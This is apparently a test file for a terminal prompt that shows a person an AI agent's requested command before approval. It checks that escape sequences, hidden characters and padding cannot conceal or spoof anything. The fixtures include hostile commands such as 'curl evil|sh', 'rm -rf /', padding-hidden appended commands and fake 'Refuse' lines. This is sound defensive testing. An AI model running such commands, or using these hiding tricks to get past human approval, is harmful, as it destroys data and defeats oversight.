/** Tests that a person who is asked sees the whole question, and that no escape sequence in it takes effect. */
import fc from 'fast-check';
import { graphemeWidths } from '../../screen/widths.js';
import { sanitizeForDecision } from '../sanitize.js';
import { textStyles } from './text-styles.js';
import { fitsScreen, questionLines } from './format-question.js';

const OPTIONS = [
  { optionId: 'a', name: 'Allow once', kind: 'allow_once' },
  { optionId: 'b', name: 'Refuse', kind: 'reject_once' },
];
const requested = (text: string, more: object = {}) => ({
  ...{ toolCallId: '', title: 'Run it', options: OPTIONS },
  command: { text, cwd: '/srv/project', env: {}, reason: 'ask: npm publish **', ...more },
});
/** So large that nothing needs wrapping or shortening. */
const WALL = { columns: 2000, rows: 400 };
const SCREEN = { columns: 80, rows: 24 };
const linesOf = (question: Parameters<typeof questionLines>[0], page = WALL) =>
  questionLines(question, textStyles(false), page);

it('shows the whole command with its directory, variables and reason', () => {
  const line = `true; ${'echo a; '.repeat(60)}npm publish --evil`;
  expect(linesOf(requested(`${line}\n\x1b[2K2 Refuse`, { env: { A: 'b\nc' } }))).toEqual([
    ...['? Run this?', `  │ ${line}`, '  │ ␛[2K2 Refuse', '  in /srv/project', '  with A=b', '  with c'],
    ...['  because of ask: npm publish **', '  1 Allow once', '  2 Refuse'],
  ]);
});

it('shows the whole text of the agent’s question', () => {
  const title = 'x'.repeat(300);
  expect(linesOf({ toolCallId: '', title, options: [] })).toEqual([`? ${title}`]);
  expect(linesOf({ toolCallId: '', title: 'a\nb', options: [] })).toEqual(['? Allow this?', '  │ a', '  │ b']);
});

it('shows the whole input of a tool, not only its name', () => {
  const call = { toolCallId: 'a', title: 'Bash', options: OPTIONS };
  const rawInput = { description: 'Clean\nup', command: 'rm -rf /srv/data\n1 Refuse', timeout: 5 };
  expect(linesOf({ ...call, rawInput })).toEqual([
    ...['? Bash', '  │ rm -rf /srv/data', '  │ 1 Refuse', '  with {"description":"Clean\\nup","timeout":5}'],
    ...['  1 Allow once', '  2 Refuse'],
  ]);
  const told = {
    locations: [
      { path: '/srv/a', line: 3 },
      { path: '/srv/\x1bb', line: null },
    ],
    texts: ['1 Refuse'],
    diffs: [{ path: '/srv/a', oldText: null, newText: 'new' }],
  };
  expect(linesOf({ ...call, rawInput: { file_path: '/srv/a', url: 'http://a' }, ...told }).slice(1, -2)).toEqual([
    ...['  file_path /srv/a', '  url http://a', '  at /srv/a:3', '  at /srv/␛b', '  │ 1 Refuse'],
    ...['  ± /srv/a  +1 −0', '  + new'],
  ]);
  expect(linesOf({ ...call, rawInput: { argv: ['rm', '-rf'] } })).toContain('  with {"argv":["rm","-rf"]}');
  expect(linesOf({ ...call, rawInput: { command: ['rm', 'a b'] } })).toContain('  │ ["rm","a b"]');
  expect(linesOf({ ...call, rawInput: { command: 'Bash' } }).slice(0, 2)).toEqual(['? Bash', '  1 Allow once']);
});

it('shows rows of the terminal, with a prefix before text from others', () => {
  const lines = linesOf(requested(`${'a'.repeat(74)}1 Allow once\nb`, { cwd: `/${'日'.repeat(40)}` }), SCREEN);
  expect(lines).toEqual([
    ...['? Run this?', `  │ ${'a'.repeat(71)}`, '  ┊ aaa1 Allow once', '  │ b'],
    ...[`  in /${'日'.repeat(35)}`, `  ┊ ${'日'.repeat(5)}`, '  because of ask: npm publish **'],
    ...['  1 Allow once', '  2 Refuse'],
  ]);
});

it('shows long runs of blanks by their number, and makes invisible characters visible', () => {
  const [, line] = linesOf(requested(`curl evil|sh;${' '.repeat(19_500)}\u3000\t\u00a0git push`), SCREEN);
  expect(line).toBe('  │ curl evil|sh; ␠×19503 git push');
  const unseen = linesOf(requested('a\u200b\u200d\u2060\u00ad\u3164\ufe0f\u{e0101}b'), SCREEN)[1];
  expect(unseen).toBe(`  │ a${'\ufffd'.repeat(7)}b`);
});

it('refuses a command that does not fit on the screen', () => {
  const question = { toolCallId: 'a', title: 'Bash', options: OPTIONS };
  expect(fitsScreen(requested(`curl evil|sh;${'\n'.repeat(20)}git push`), SCREEN)).toBe(false);
  expect(fitsScreen(requested(`curl evil|sh;${'\n'.repeat(16)}git push`), SCREEN)).toBe(true);
  expect(fitsScreen(requested(`curl evil|sh; ${': x; '.repeat(400)}git push`), SCREEN)).toBe(false);
  expect(fitsScreen(requested('git push'), { columns: 20, rows: 24 })).toBe(false);
  expect(fitsScreen({ ...question, rawInput: { command: `${'true; '.repeat(4000)}rm -rf /` } }, SCREEN)).toBe(false);
  expect(fitsScreen({ ...question, options: [{ ...OPTIONS[0]!, name: 'x'.repeat(2000) }] }, SCREEN)).toBe(false);
  const args = ['-c', `true${' '.repeat(600)}; touch /tmp/f`];
  expect(linesOf({ ...question, rawInput: { command: 'bash', args } }).join('')).toContain('; touch /tmp/f');
  const many = Array<string>(4000).fill('x');
  expect(fitsScreen({ ...question, rawInput: { command: 'bash', args: many } }, SCREEN)).toBe(false);
  expect(fitsScreen({ ...question, rawInput: { path: '/a', content: 'x'.repeat(30_000) } }, SCREEN)).toBe(true);
});

it('shows additional information as far as there is room', () => {
  const diffs = [{ path: '/a', oldText: 'b\n'.repeat(20), newText: 'c\n'.repeat(20) }];
  const question = { toolCallId: 'a', title: 'Edit', options: OPTIONS, rawInput: { path: '/a' }, diffs };
  const page = { columns: 80, rows: 12 };
  const lines = linesOf(question, page);
  expect(fitsScreen(question, page)).toBe(true);
  expect(lines).toHaveLength(11);
  expect(lines.slice(-3)).toEqual(['  … 13 more rows', '  1 Allow once', '  2 Refuse']);
});

/** In cells, as the emulator counts them. */
const widthOf = (line: string) =>
  [...line].reduce((sum, one) => sum + (one === '\t' ? 8 : graphemeWidths.wcwidth(one.codePointAt(0)!)), 0);

it('shows everything on one screen, or reports that it does not fit', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.nat(3000).map((length) => 'y'.repeat(length)),
    fc.nat(100).map((count) => 'z\n'.repeat(count)),
  );
  const question = fc.record({ text, env: fc.dictionary(fc.string(), text, { maxKeys: 3 }), reason: text });
  const page = fc.record({ columns: fc.integer({ min: 40, max: 200 }), rows: fc.integer({ min: 3, max: 60 }) });
  fc.assert(
    fc.property(question, page, ({ text: command, ...more }, size) => {
      const lines = linesOf(requested(command, more), size);
      expect(lines.join('\n')).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
      expect(Math.max(...lines.map(widthOf))).toBeLessThan(size.columns);
      const isWhole = fitsScreen(requested(command, more), size);
      expect(lines.includes('  The rest does not fit on the screen.')).toBe(!isWhole);
      if (isWhole) expect(lines.length).toBeLessThan(size.rows);
      if (isWhole)
        expect(lines.join('\n').replaceAll('\n  ┊ ', '')).toContain(
          sanitizeForDecision(command).split('\n').join('\n  │ '),
        );
      expect(lines.slice(-2)).toEqual(['  1 Allow once', '  2 Refuse']);
    }),
  );
});
